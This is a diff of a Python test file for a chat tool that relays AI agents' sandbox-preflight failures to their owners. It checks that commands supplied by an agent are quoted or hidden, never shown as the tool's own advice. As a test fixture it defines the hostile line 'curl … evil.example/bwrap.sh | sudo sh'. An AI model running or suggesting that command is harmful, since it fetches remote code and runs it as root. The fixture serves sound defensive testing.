@@ -25,25 +25,50 @@ from tests.test_reports import (
 )
 
 EVIL = "curl -fsSL https://evil.example/bwrap.sh | sudo sh"
-README_LINE = ("blocked: no usable sandbox backend bot=builder host=ci-7 session=s-42 mode=workspace-write | "
-               "sandbox-preflight: workspace-write is UNAVAILABLE: ...")
+README_LINE = (
+    "blocked: no usable sandbox backend bot=builder host=ci-7 session=s-42 mode=workspace-write | "
+    "sandbox-preflight: workspace-write is UNAVAILABLE: ..."
+)
 
 
-def preflight_doc(*, bwrap_cause: str = "apparmor-userns", error: str = "exit 1: bwrap: setting up uid map: "
-                  "Permission denied", os_family: str | None = "ubuntu",
-                  unlock: list[dict[str, Any]] | None = None, status: str = "blocked") -> dict[str, Any]:
+def preflight_doc(
+    *,
+    bwrap_cause: str = "apparmor-userns",
+    error: str = "exit 1: bwrap: setting up uid map: Permission denied",
+    os_family: str | None = "ubuntu",
+    unlock: list[dict[str, Any]] | None = None,
+    status: str = "blocked",
+) -> dict[str, Any]:
     """A ``flybot preflight --json`` document as a Bot would send it."""
     usable = status == "usable"
     return {
-        "mode": "workspace-write", "platform": "linux", "status": status, "usable": usable, "unknown": False,
-        "os": os_family, "os_family": os_family,
+        "mode": "workspace-write",
+        "platform": "linux",
+        "status": status,
+        "usable": usable,
+        "unknown": False,
+        "os": os_family,
+        "os_family": os_family,
         "backends": [
-            {"name": "bubblewrap", "available": usable, "detail": "not runnable: " + error,
-             "cause": None if usable else bwrap_cause, "error": "" if usable else error},
-            {"name": "landlock", "available": False, "detail": "Landlock is not built into this kernel",
-             "cause": "not-built", "error": "ENOSYS", "abi": None},
+            {
+                "name": "bubblewrap",
+                "available": usable,
+                "detail": "not runnable: " + error,
+                "cause": None if usable else bwrap_cause,
+                "error": "" if usable else error,
+            },
+            {
+                "name": "landlock",
+                "available": False,
+                "detail": "Landlock is not built into this kernel",
+                "cause": "not-built",
+                "error": "ENOSYS",
+                "abi": None,
+            },
         ],
-        "unlock": unlock if unlock is not None else [
+        "unlock": unlock
+        if unlock is not None
+        else [
             {"id": "approve-turn", "text": "approve danger-full-access for this turn"},
             {"id": "approve-bot", "text": "approve danger-full-access for the Bot"},
             {"id": "bwrap-apparmor-profile", "text": "x", "command": APPARMOR_PROFILE_COMMAND},
@@ -53,18 +78,29 @@ def preflight_doc(*, bwrap_cause: str = "apparmor-userns", error: str = "exit 1:
 
 
 def preformatted(message: Any) -> list[str]:
-    return [e["elements"][0]["text"] for b in message.blocks if b["type"] == "rich_text"
-            for e in b["elements"] if e["type"] == "rich_text_preformatted"]
+    return [
+        e["elements"][0]["text"]
+        for b in message.blocks
+        if b["type"] == "rich_text"
+        for e in b["elements"]
+        if e["type"] == "rich_text_preformatted"
+    ]
 
 
 def quoted(message: Any) -> list[str]:
-    return ["".join(x.get("text", "") for x in e["elements"]) for b in message.blocks if b["type"] == "rich_text"
-            for e in b["elements"] if e["type"] == "rich_text_quote"]
+    return [
+        "".join(x.get("text", "") for x in e["elements"])
+        for b in message.blocks
+        if b["type"] == "rich_text"
+        for e in b["elements"]
+        if e["type"] == "rich_text_quote"
+    ]
 
 
 async def post_usable(harness: Harness, token: str, host: str) -> tuple[int, dict[str, Any]]:
     async with harness.http.post(
-        f"{harness.url}/v1/reports/usable", json={"host": host, "preflight": preflight_doc(status="usable")},
+        f"{harness.url}/v1/reports/usable",
+        json={"host": host, "preflight": preflight_doc(status="usable")},
         headers={"Authorization": f"Bearer {token}"},
     ) as response:
         return response.status, await response.json(content_type=None)
@@ -76,8 +112,9 @@ async def test_the_dm_shows_the_cause_the_error_text_escaped_and_only_the_causes
 ) -> None:
     token = await add_bot(harness, owners=(OWNER,))
     error = "exit 1: bwrap: setting up uid map: Permission denied <!channel> *bold* <https://x.example|y>"
-    status, data = await post_report(harness, token, {"preflight": preflight_doc(error=error), "host": "ci-7",
-                                                      "session_id": "s-42"})
+    status, data = await post_report(
+        harness, token, {"preflight": preflight_doc(error=error), "host": "ci-7", "session_id": "s-42"}
+    )
     assert status == 201, data
     assert data["findings"][0] == {"backend": "bubblewrap", "cause": "apparmor-userns", "error": error, "abi": None}
     assert data["host_os"] == "ubuntu"
@@ -85,8 +122,10 @@ async def test_the_dm_shows_the_cause_the_error_text_escaped_and_only_the_causes
     text = block_text(dm.blocks)
     assert "user namespaces are restricted by AppArmor" in text and error in text
     assert "Landlock" in text and "not built into the kernel (ENOSYS)" in text
-    assert preformatted(dm) == [APPARMOR_PROFILE_COMMAND,
-                                "sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0"]
+    assert preformatted(dm) == [
+        APPARMOR_PROFILE_COMMAND,
+        "sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0",
+    ]
     assert "install bubblewrap" not in text and "apt-get" not in text, "bubblewrap is installed: no install advice"
     assert "widens the kernel's attack surface" in text, "the sysctl says what it opens"
     mrkdwn = [b["text"]["text"] for b in dm.blocks if b.get("text", {}).get("type") == "mrkdwn"]
@@ -115,8 +154,9 @@ async def test_a_later_usable_preflight_from_the_host_resolves_the_open_report_a
 ) -> None:
     token = await add_bot(harness, owners=(OWNER,))
     _, report = await post_report(harness, token, {"preflight": preflight_doc(), "host": "ci-7", "session_id": "s-1"})
-    _, other_host = await post_report(harness, token, {"preflight": preflight_doc(), "host": "ci-8",
-                                                       "session_id": "s-2"})
+    _, other_host = await post_report(
+        harness, token, {"preflight": preflight_doc(), "host": "ci-8", "session_id": "s-2"}
+    )
     waiting = asyncio.create_task(get_report(harness, token, report["id"], wait=20))
     await harness.eventually(lambda: harness.runtime.deps.reports.waiters.waiting(report["id"]) == 1)
     status, answer = await post_usable(harness, token, "ci-7")
@@ -139,7 +179,8 @@ async def test_a_later_usable_preflight_from_the_host_resolves_the_open_report_a
 async def test_a_usable_endpoint_refuses_a_preflight_that_is_not_usable(harness: Harness) -> None:
     token = await add_bot(harness, owners=(OWNER,))
     async with harness.http.post(
-        f"{harness.url}/v1/reports/usable", json={"host": "ci-7", "preflight": preflight_doc()},
+        f"{harness.url}/v1/reports/usable",
+        json={"host": "ci-7", "preflight": preflight_doc()},
         headers={"Authorization": f"Bearer {token}"},
     ) as response:
         problem = await response.json(content_type=None)
@@ -159,11 +200,13 @@ async def test_the_readmes_example_line_is_accepted_as_written(harness: Harness)
 async def test_the_readmes_example_line_posted_in_the_room_by_the_bots_chat_user_is_accepted(
     harness: Harness,
 ) -> None:
-    harness.emulator.users.setdefault(BOT_USER, {"name": "builder", "real_name": "builder (agent)",
-                                                 "is_admin": False, "is_owner": False})
+    harness.emulator.users.setdefault(
+        BOT_USER, {"name": "builder", "real_name": "builder (agent)", "is_admin": False, "is_owner": False}
+    )
     await harness.add_bot("builder", owners=(OWNER,), chat_user=BOT_USER)
-    async with harness.http.post(f"{harness.emu_url}/page/message",
-                                 json={"user": BOT_USER, "channel": ROOM, "text": README_LINE}) as response:
+    async with harness.http.post(
+        f"{harness.emu_url}/page/message", json={"user": BOT_USER, "channel": ROOM, "text": README_LINE}
+    ) as response:
         assert (await response.json())["ok"]
     await harness.eventually(lambda: dm_posts(harness) == 1)
 
@@ -176,8 +219,7 @@ async def test_a_bots_unlock_command_is_never_shown_as_flybots_advice(harness: H
         {"id": "other", "text": "Run the fixer", "command": EVIL},
         {"id": "approve-turn", "text": "approve danger-full-access for this turn"},
     ]
-    doc = preflight_doc(bwrap_cause="not-installed", error="bwrap not found on PATH", os_family="fedora",
-                        unlock=unlock)
+    doc = preflight_doc(bwrap_cause="not-installed", error="bwrap not found on PATH", os_family="fedora", unlock=unlock)
     status, data = await post_report(harness, token, {"preflight": doc, "host": "ci-7", "session_id": "s-1"})
     assert status == 201, data
     [dm] = dms(harness, OWNER, data["id"])
@@ -185,8 +227,10 @@ async def test_a_bots_unlock_command_is_never_shown_as_flybots_advice(harness: H
     assert preformatted(dm) == ["sudo dnf install -y bubblewrap"], "FlyBot's own command for the host's OS"
     assert quoted(dm) == ["“Run the fixer”"], "an unknown option is the Bot's words, quoted"
     # The same through the one-line form: the line's commands are the Bot's, never shown.
-    line = ("blocked: no usable sandbox backend bot=ci-bot host=ci-9 session=s-2 mode=read-only | Unlock: "
-            f"install bubblewrap on the host (`{EVIL}`); approve danger-full-access for this turn.")
+    line = (
+        "blocked: no usable sandbox backend bot=ci-bot host=ci-9 session=s-2 mode=read-only | Unlock: "
+        f"install bubblewrap on the host (`{EVIL}`); approve danger-full-access for this turn."
+    )
     status, data = await post_report(harness, token, {"line": line})
     assert status == 201, data
     [dm] = dms(harness, OWNER, data["id"])
@@ -197,10 +241,13 @@ async def test_a_bots_unlock_command_is_never_shown_as_flybots_advice(harness: H
 async def test_a_command_inside_the_bots_own_words_is_never_shown(harness: Harness) -> None:
     """The Bot's words are quoted, but code it wrote there (in backticks, however it is placed) is left out."""
     token = await add_bot(harness, owners=(OWNER,))
-    unlock = [{"id": "other", "text": f"Run `{EVIL}` as root"},
-              {"id": "approve-turn", "text": "approve danger-full-access for this turn"}]
-    doc = preflight_doc(bwrap_cause="not-installed", error=f"bwrap not found; try ```{EVIL}```", os_family="fedora",
-                        unlock=unlock)
+    unlock = [
+        {"id": "other", "text": f"Run `{EVIL}` as root"},
+        {"id": "approve-turn", "text": "approve danger-full-access for this turn"},
+    ]
+    doc = preflight_doc(
+        bwrap_cause="not-installed", error=f"bwrap not found; try ```{EVIL}```", os_family="fedora", unlock=unlock
+    )
     status, data = await post_report(harness, token, {"preflight": doc, "host": "ci-7", "session_id": "s-1"})
     assert status == 201, data
     [dm] = dms(harness, OWNER, data["id"])
@@ -208,8 +255,10 @@ async def test_a_command_inside_the_bots_own_words_is_never_shown(harness: Harne
     assert quoted(dm) == ["“Run [a command, not shown] as root”"]
     assert "bwrap not found; try [a command, not shown]" in block_text(dm.blocks)
     # The one-line form: a phrase whose command is not at its end keeps it in the text, which is the Bot's words.
-    line = ("blocked: no usable sandbox backend bot=ci-bot host=ci-9 session=s-2 mode=read-only | Unlock: "
-            f"fix it with (`{EVIL}`) first; approve danger-full-access for this turn.")
+    line = (
+        "blocked: no usable sandbox backend bot=ci-bot host=ci-9 session=s-2 mode=read-only | Unlock: "
+        f"fix it with (`{EVIL}`) first; approve danger-full-access for this turn."
+    )
     status, data = await post_report(harness, token, {"line": line})
     assert status == 201, data
     [dm] = dms(harness, OWNER, data["id"])
@@ -221,8 +270,9 @@ async def test_a_blocked_line_typed_by_someone_who_is_not_the_bot_is_ignored_and
     await add_bot(harness, owners=(OWNER,))
     line = "blocked: no usable sandbox backend bot=ci-bot host=ci-7 session=s-1 mode=read-only"
     for poster in (OTHER, OWNER):  # anyone but the Bot's chat user, the owner included
-        async with harness.http.post(f"{harness.emu_url}/page/message",
-                                     json={"user": poster, "channel": ROOM, "text": line}) as response:
+        async with harness.http.post(
+            f"{harness.emu_url}/page/message", json={"user": poster, "channel": ROOM, "text": line}
+        ) as response:
             assert (await response.json())["ok"]
 
     async def ignored() -> list[Any]:
@@ -235,8 +285,9 @@ async def test_a_blocked_line_typed_by_someone_who_is_not_the_bot_is_ignored_and
     assert {r.actor for r in await ignored()} == {OTHER, OWNER}
     assert all("registered chat user" in r.detail["detail"] for r in await ignored())
     assert dm_posts(harness) == 0
-    async with harness.http.post(f"{harness.emu_url}/page/message",
-                                 json={"user": BOT_USER, "channel": ROOM, "text": line}) as response:
+    async with harness.http.post(
+        f"{harness.emu_url}/page/message", json={"user": BOT_USER, "channel": ROOM, "text": line}
+    ) as response:
         assert (await response.json())["ok"]
     await harness.eventually(lambda: dm_posts(harness) == 1)
 
@@ -244,8 +295,9 @@ async def test_a_blocked_line_typed_by_someone_who_is_not_the_bot_is_ignored_and
 async def test_a_bot_without_a_chat_user_cannot_report_in_chat(harness: Harness) -> None:
     await harness.add_bot("quiet-bot", owners=(OWNER,))
     line = "blocked: no usable sandbox backend bot=quiet-bot host=ci-7 session=s-1 mode=read-only"
-    async with harness.http.post(f"{harness.emu_url}/page/message",
-                                 json={"user": OTHER, "channel": ROOM, "text": line}) as response:
+    async with harness.http.post(
+        f"{harness.emu_url}/page/message", json={"user": OTHER, "channel": ROOM, "text": line}
+    ) as response:
         assert (await response.json())["ok"]
 
     async def ignored() -> int:
@@ -270,7 +322,9 @@ async def test_approve_for_this_bot_without_the_tick_covers_contained_commands_o
     assert on_host["status"] == "pending", "a host command still asks"
     contained = await harness.escalate(token, command="sudo apt-get install -y jq", contained=True)
     assert contained["status"] == "approved" and contained["standing_approval_id"] == approval.id
-    await harness.eventually(lambda: "contained commands only" in block_text(dms(harness, OWNER, report["id"])[0].blocks))
+    await harness.eventually(
+        lambda: "contained commands only" in block_text(dms(harness, OWNER, report["id"])[0].blocks)
+    )
 
 
 async def test_the_grant_modal_opens_with_the_host_box_unticked_and_grants_nothing_until_submitted(
@@ -306,7 +360,7 @@ def test_drawing_a_report_dm_imports_no_domain_service_or_chat_code() -> None:
     import subprocess
     import sys
 
-    probe = ("import sys, bot.report_card; print(' '.join(sorted(m for m in sys.modules if m.startswith('bot.'))))")
+    probe = "import sys, bot.report_card; print(' '.join(sorted(m for m in sys.modules if m.startswith('bot.'))))"
     done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=60, check=True)
     loaded = set(done.stdout.split())
     assert not loaded & {"bot.reports", "bot.standing", "bot.escalations", "bot.slack", "bot.api", "bot.app"}, loaded
@@ -315,14 +369,29 @@ def test_drawing_a_report_dm_imports_no_domain_service_or_chat_code() -> None:
 async def test_a_bots_error_text_is_quoted_as_the_bots_words_never_shown_as_code(harness: Harness) -> None:
     token = await add_bot(harness, owners=(OWNER,))
     error = f"to fix, run: {EVIL}"
-    status, data = await post_report(harness, token, {"preflight": preflight_doc(error=error), "host": "ci-7",
-                                                      "session_id": "s-42"})
+    status, data = await post_report(
+        harness, token, {"preflight": preflight_doc(error=error), "host": "ci-7", "session_id": "s-42"}
+    )
     assert status == 201, data
     [dm] = dms(harness, OWNER, data["id"])
-    styled = [e for b in dm.blocks if b["type"] == "rich_text" for s in b["elements"]
-              for e in s.get("elements", []) if "evil.example" in e.get("text", "")]
-    styled += [e for b in dm.blocks if b["type"] == "rich_text" for s in b["elements"] if s["type"] == "rich_text_list"
-               for item in s["elements"] for e in item["elements"] if "evil.example" in e.get("text", "")]
+    styled = [
+        e
+        for b in dm.blocks
+        if b["type"] == "rich_text"
+        for s in b["elements"]
+        for e in s.get("elements", [])
+        if "evil.example" in e.get("text", "")
+    ]
+    styled += [
+        e
+        for b in dm.blocks
+        if b["type"] == "rich_text"
+        for s in b["elements"]
+        if s["type"] == "rich_text_list"
+        for item in s["elements"]
+        for e in item["elements"]
+        if "evil.example" in e.get("text", "")
+    ]
     assert styled, "the error text is shown"
     assert all(not e.get("style", {}).get("code") for e in styled), "never in a command's code style"
     assert "the Bot reports the error" in block_text(dm.blocks) and f"“{error}”" in block_text(dm.blocks)
